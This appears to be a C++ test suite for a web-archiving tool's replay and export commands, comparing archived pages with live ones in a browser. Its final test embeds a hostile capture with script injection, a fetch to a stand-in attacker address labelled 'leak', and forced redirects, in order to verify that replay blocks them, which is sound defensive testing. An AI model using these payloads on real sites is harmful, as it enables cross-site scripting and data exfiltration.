// `bowerbird replay` and `export --as site` as a user runs them; and what a browser shows of a capture,
// compared with the live page.
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <filesystem>
#include <thread>

#include "process.h"
#include "replay_testing.h"
#include "replay_web_page_testing.h"
#include "small_site_testing.h"

namespace bowerbird {
namespace {

using testing::HasSubstr;

// A response with its header.
std::string http_get(const std::string& base, const std::string& target) {
  const std::string authority = base.substr(7, base.size() - 8);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  address.sin_port = htons(static_cast<std::uint16_t>(std::stoi(authority.substr(authority.find(':') + 1))));
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  EXPECT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  const std::string request =
      fmt::format("GET {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", target, authority);
  EXPECT_EQ(::send(fd, request.data(), request.size(), MSG_NOSIGNAL), static_cast<ssize_t>(request.size()));
  std::string got;
  char buffer[4096];
  for (ssize_t n = 0; (n = ::recv(fd, buffer, sizeof buffer, 0)) > 0;)
    got.append(buffer, static_cast<std::size_t>(n));
  ::close(fd);
  return got;
}

std::string shape(const std::string& colour) {
  return fmt::format(
      "<svg xmlns='http://www.w3.org/2000/svg' width='200' height='120'><rect width='200' height='120' "
      "fill='{}'/><circle "
      "cx='100' cy='60' r='40' fill='white'/></svg>",
      colour);
}

// Pages that are hard to replay: imports, srcset, fonts, image-set, frames, inline styles, another host.
SmallSite::Files content_network() {
  SmallSite::Files files;
  files["/far.svg"] = {"image/svg+xml", shape("#b5588c")};
  files["/base.css"] = {
      "text/css",
      "@font-face{font-family:Captured;src:url(font.ttf)}h1{font-family:Captured;border-bottom:8px solid "
      "#009e73}.tile{width:200px;height:120px;background:url('far.svg')}"};
  const std::string font = "/usr/share/fonts/truetype/dejavu/DejaVuSerif-Bold.ttf";
  files["/font.ttf"] = {"font/ttf", std::filesystem::exists(font) ? read_text(font) : "none"};
  return files;
}

SmallSite::Files documented_site(const std::string& network) {
  SmallSite::Files files;
  const std::string head = "<!DOCTYPE html><meta charset=utf-8><link rel=stylesheet href=/style/main.css>";
  files["/d/"] = {
      "text/html",
      head +
          "<title>Start</title><h1>Gäste</h1><img src=one.svg srcset='two.svg 1x, three.svg 3x' "
          "width=200 height=120><div class=tile></div><p style='background:url(&quot;four.svg&quot;)'>" +
          std::string(300, 'w') +
          "</p><a href='second?x=1&amp;y=2'>second</a> <a href=third.xhtml>third</a>"};
  files["/d/second?x=1&y=2"] = {
      "text/html", head +
                       "<title>Second</title><base href=/style/><h1>Second</h1><picture><source "
                       "srcset=five.svg><img src=missing.png></picture><div class=set></div><a "
                       "href=/d/>back</a><iframe src=/d/frame.html width=300 height=150></iframe>"};
  files["/d/frame.html"] = {"text/html",
                            "<title>Frame</title><body style='background:#d55e00'><h2>in a frame</h2>"};
  files["/d/third.xhtml"] = {
      "application/xhtml+xml",
      "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='../style/third.css'?><html "
      "xmlns='http://www.w3.org/1999/xhtml'><head><title>Third</title></head><body><h1>Third</h1><iframe "
      "src='graph.svg' width='300' height='150'></iframe></body></html>"};
  files["/d/graph.svg"] = {"image/svg+xml",
                           "<?xml-stylesheet href='../style/graph.css'?><svg "
                           "xmlns='http://www.w3.org/2000/svg'><rect width='200' height='120'/></svg>"};
  files["/style/third.css"] = {"text/css", "h1{color:#d55e00;font-size:80px}"};
  files["/style/graph.css"] = {"text/css", "rect{fill:#009e73}"};
  files["/d/one.svg"] = {"image/svg+xml", shape("#0072b2")};
  files["/d/two.svg"] = {"image/svg+xml", shape("#d55e00")};
  files["/d/three.svg"] = {"image/svg+xml", shape("#333333")};
  files["/d/four.svg"] = {"image/svg+xml", shape("#c08400")};
  files["/style/five.svg"] = {"image/svg+xml", shape("#3a9bd9")};
  files["/style/main.css"] = {
      "text/css",
      fmt::format("@import url('{}');@import 'more.css' screen;body{{background:#f6f6f3}}", network)};
  files["/style/more.css"] = {
      "text/css",
      ".set{width:200px;height:120px;background:image-set('five.svg' 1x, 'six.svg' 2x)}a{color:#00588a}"};
  files["/style/six.svg"] = {"image/svg+xml", shape("#000000")};
  return files;
}

class ReplayedSite {
 public:
  ReplayedSite() : network_(content_network()), site_(documented_site(network_.url("/base.css"))) {
    const Finished crawled =
        run_bowerbird({"crawl", site_.url("/d/"), "--out", crawl(), "--archive", "--scope", "prefix",
                       "--allow-net", "127.0.0.0/8", "--delay", "0.003", "--contact",
                       "tests@bowerbird.example", "--no-durable", "--no-report"});
    EXPECT_EQ(crawled.code, 0) << crawled.err;
  }
  std::string crawl() const { return folder_ / "crawl"; }
  std::string url(const std::string& path) const { return site_.url(path); }
  const TemporaryFolder& folder() const { return folder_; }

 private:
  TemporaryFolder folder_;
  SmallSite network_;
  SmallSite site_;
};

TEST(ReplayCommand, ShowsACrawlAndItsExports) {
  const ReplayedSite site;
  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "wacz", "-o", site.folder() / "x.wacz"}).code, 0);
  for (const std::string& input : {site.crawl(), site.folder() / "x.wacz", site.crawl() + "/warc"}) {
    const RunningReplay replay(input);
    EXPECT_EQ(replay.count(), 4u) << input;
    const std::string list = http_get(replay.url(), "/");
    EXPECT_THAT(list, HasSubstr("4 pages"));
    EXPECT_THAT(list, HasSubstr(site.url("/d/second?x=1&amp;y=2")));
    const std::string gate = http_get(replay.pages(), "/web/" + site.url("/d/"));
    EXPECT_THAT(gate, HasSubstr("HTTP/1.1 302"));
    const std::size_t at = gate.find("location: ") + 10 + replay.pages().size() - 1;
    const std::string page = http_get(replay.pages(), gate.substr(at, gate.find("\r\n", at) - at));
    EXPECT_THAT(page, HasSubstr("HTTP/1.1 200")) << input;
    EXPECT_THAT(page, HasSubstr("memento-datetime: "));
    EXPECT_THAT(page, HasSubstr("Gäste"));
    EXPECT_EQ(page.find("src=one.svg"), std::string::npos);
  }
}

TEST(ReplayCommand, RefusesInvalidArchivesAndAddresses) {
  const TemporaryFolder folder;
  write_text(folder / "x.wacz", "PK\x03\x04 and nothing else");
  EXPECT_THAT(run_bowerbird({"replay", folder / "x.wacz"}).err, HasSubstr("not a ZIP file"));
  EXPECT_THAT(run_bowerbird({"replay", folder / "nothing"}).err, HasSubstr("nothing"));
  EXPECT_EQ(run_bowerbird({"replay", folder / "x.wacz", "--listen", "0.0.0.0:1"}).code, 2);
  EXPECT_EQ(run_bowerbird({"replay", folder / "x.wacz", "--listen", "127.0.0.1:x"}).code, 2);
}

TEST(ExportSite, IsWrittenCompletelyOrNotAtAll) {
  const ReplayedSite site;
  const std::string out = site.folder() / "pages";
  for (const int microseconds : {2'000, 5'000, 10'000, 20'000}) {
    const bool killed = run_and_kill({"export", site.crawl(), "--as", "site", "-o", out},
                                     std::chrono::microseconds(microseconds));
    EXPECT_TRUE(!killed || !std::filesystem::exists(out)) << microseconds;
    std::filesystem::remove_all(out);
  }
  const Finished written = run_bowerbird({"export", site.crawl(), "--as", "site", "-o", out});
  EXPECT_EQ(written.code, 0) << written.err;
  EXPECT_THAT(written.out, HasSubstr("4 of them pages"));
  EXPECT_TRUE(std::filesystem::exists(out + "/index.html"));
  EXPECT_THAT(run_bowerbird({"export", site.crawl(), "--as", "site", "-o", out}).err,
              HasSubstr("exists already"));
  EXPECT_EQ(run_bowerbird({"export", site.crawl(), "--as", "site"}).code, 2);
}

// Compares each URL live, in `bowerbird replay`, as a folder and, if available, in ReplayWeb.page: at
// most 1 % of the pixels differ, and no request leaves the archive.
void expect_looks_alike(const std::string& pages, const std::string& folder, const std::string& wacz,
                        const std::vector<std::string>& urls) {
  const std::string package = replay_web_page_folder(BOWERBIRD_BINARY);
  std::string command =
      fmt::format("timeout 280 node '{}/tests/replay_browser.mjs' chromium '{}' '{}' '{}' '{}'",
                  BOWERBIRD_SOURCE_DIR, pages, folder, package.empty() ? "-" : package, wacz);
  for (const std::string& url : urls) command += " '" + url + "'";
  const std::string out = shell_output(command + " 2>&1");
  std::size_t compared = 0;
  for (std::size_t at = 0; at < out.size(); at = out.find('\n', at) + 1) {
    const auto line = nlohmann::json::parse(out.substr(at, out.find('\n', at) - at), nullptr, false);
    ASSERT_TRUE(line.is_object()) << out;
    EXPECT_LE(line["different"].get<double>(), 0.01) << line.dump();
    EXPECT_EQ(line["outside"], nlohmann::json::array()) << line.dump();
    EXPECT_EQ(line["blank"], false) << line.dump();
    ++compared;
  }
  EXPECT_EQ(compared, urls.size() * (package.empty() ? 2 : 3)) << out;
}

TEST(ReplayInABrowser, LooksLikeTheLivePageFull) {
  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
  const ReplayedSite site;
  const std::string folder = site.folder() / "pages";
  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "wacz", "-o", site.folder() / "x.wacz"}).code, 0);
  ASSERT_EQ(run_bowerbird({"export", site.crawl(), "--as", "site", "-o", folder}).code, 0);
  const RunningReplay replay(site.crawl());
  expect_looks_alike(replay.pages(), folder, site.folder() / "x.wacz",
                     {site.url("/d/"), site.url("/d/second?x=1&y=2"), site.url("/d/third.xhtml")});
}

// The documentation of cairo (tools/packages.txt) with its styles and images, unchanged.
TEST(ReplayInABrowser, ShowsRealDocumentationUnchangedFull) {
  const std::string source = "/usr/share/gtk-doc/html/cairo";
  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
  if (!std::filesystem::exists(source)) GTEST_SKIP() << "libcairo2-doc is not installed";
  SmallSite::Files files;
  const std::map<std::string, std::string> types = {
      {".html", "text/html"}, {".css", "text/css"}, {".png", "image/png"}};
  for (const auto& entry : std::filesystem::directory_iterator(source)) {
    const auto type = types.find(entry.path().extension().string());
    if (type == types.end()) continue;
    files["/cairo/" + entry.path().filename().string()] = {type->second, read_text(entry.path().string())};
  }
  const SmallSite site(files);
  const TemporaryFolder folder;
  const Finished crawled =
      run_bowerbird({"crawl", site.url("/cairo/index.html"), "--out", folder / "crawl", "--archive",
                     "--scope", "prefix", "--allow-net", "127.0.0.0/8", "--delay", "0.003", "--contact",
                     "tests@bowerbird.example", "--no-durable", "--no-report"});
  ASSERT_EQ(crawled.code, 0) << crawled.err;
  const auto status = json_of(run_bowerbird({"status", folder / "crawl", "--json"}));
  EXPECT_GT(status["pages"], 40);
  EXPECT_EQ(status["pages"], status["pages_complete"]);
  ASSERT_EQ(run_bowerbird({"export", folder / "crawl", "--as", "wacz", "-o", folder / "x.wacz"}).code, 0);
  ASSERT_EQ(run_bowerbird({"export", folder / "crawl", "--as", "site", "-o", folder / "pages"}).code, 0);
  const RunningReplay replay(folder / "x.wacz");
  expect_looks_alike(replay.pages(), folder / "pages", folder / "x.wacz",
                     {site.url("/cairo/index.html"), site.url("/cairo/cairo-Paths.html")});
}

// Scripts in titles, and pages that load from outside: neither the list nor the pages execute or load
// them.
TEST(ReplayInABrowser, HostileCapturesAreHarmlessFull) {
  if (!can_run_browser()) GTEST_SKIP() << "no chromium, or no node";
  SmallSite::Files files;
  const std::string attack =
      "<script>document.title='owned';fetch('http://198.51.100.7/leak')</script><img "
      "src=http://198.51.100.7/x.png onerror=\"location='http://198.51.100.7/moved'\"><link rel=stylesheet "
      "href=http://198.51.100.7/s.css><meta http-equiv=refresh "
      "content='0;url=http://198.51.100.7/away'><base "
      "href=http://198.51.100.7/><iframe src=//198.51.100.7/f></iframe>";
  files["/h/"] = {"text/html",
                  "<title>&lt;script&gt;document.title='owned';fetch('http://198.51.100.7/')&lt;/script&gt;"
                  "&lt;img src=x onerror=fetch('http://198.51.100.7/')></title>" +
                      attack + "<p>harmless"};
  const SmallSite site(files);
  const TemporaryFolder folder;
  ASSERT_EQ(run_bowerbird({"crawl", site.url("/h/"), "--out", folder / "crawl", "--scope", "prefix",
                           "--allow-net", "127.0.0.0/8", "--delay", "0", "--contact",
                           "tests@bowerbird.example", "--no-durable", "--no-report"})
                .code,
            0);
  for (const char* more : {"", "--scripts"}) {
    const RunningReplay replay(folder / "crawl", more);
    const std::string out = shell_output(
        fmt::format("timeout 100 node '{}/tests/hostile_capture.mjs' chromium '{}' '{}web/{}' 2>&1",
                    BOWERBIRD_SOURCE_DIR, replay.url(), replay.pages(), site.url("/h/")));
    const auto report = nlohmann::json::parse(out, nullptr, false);
    ASSERT_TRUE(report.is_object()) << out;
    EXPECT_EQ(report["outside"], nlohmann::json::array()) << out;
    EXPECT_EQ(report["list_owned"], false) << out;
    EXPECT_EQ(report["rows"], 1) << out;
  }
}

}  // namespace
}  // namespace bowerbird
